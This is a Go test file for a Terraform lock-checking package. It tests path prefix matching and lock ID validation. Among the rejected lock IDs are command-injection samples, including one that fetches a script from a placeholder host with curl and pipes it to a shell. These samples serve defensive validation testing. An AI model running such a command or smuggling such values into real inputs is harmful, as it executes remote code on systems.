package lockcheck

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestUnderPrefixMatchesWholeSegments(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		path, prefix string
		want         bool
	}{
		{"bkt/app/terraform.tfstate", "", true},
		{"bkt/app/terraform.tfstate", "bkt/app", true},
		{"bkt/app", "bkt/app", true},
		{"bkt/app/terraform.tfstate", "bkt/app/", true},
		{"bkt/app/terraform.tfstate", "bkt/app/terraform.tfstate", true},
		{"bkt/env:/dev/app/terraform.tfstate", "bkt/env:", true},
		{"bkt/app-legacy/terraform.tfstate", "bkt/app", false},
		{"bkt/app-legacy/terraform.tfstate", "bkt/app/", false},
		{"bkt/application", "bkt/app", false},
		{"bkt/app/terraform.tfstate-md5", "bkt/app/terraform.tfstate", false},
		{"bkt/app", "bkt/app/", false},
		{"bkt2/app/terraform.tfstate", "bkt", false},
	} {
		assert.Equal(t, c.want, UnderPrefix(c.path, c.prefix), "UnderPrefix(%q, %q)", c.path, c.prefix)
	}
}

func TestValidLockID(t *testing.T) {
	t.Parallel()
	for _, ok := range []string{"9161f8d3-91c8-c716-d20c-f2c95576c5e2", "test123", "a.b:c_d-e"} {
		assert.True(t, ValidLockID(ok), ok)
	}
	for _, bad := range []string{"", `x"; $(curl -s https://e.example|sh) #`, "a,b", "a b", "a\nb", "-a", "`id`", string(make([]byte, 129))} {
		assert.False(t, ValidLockID(bad), "%q", bad)
	}
}
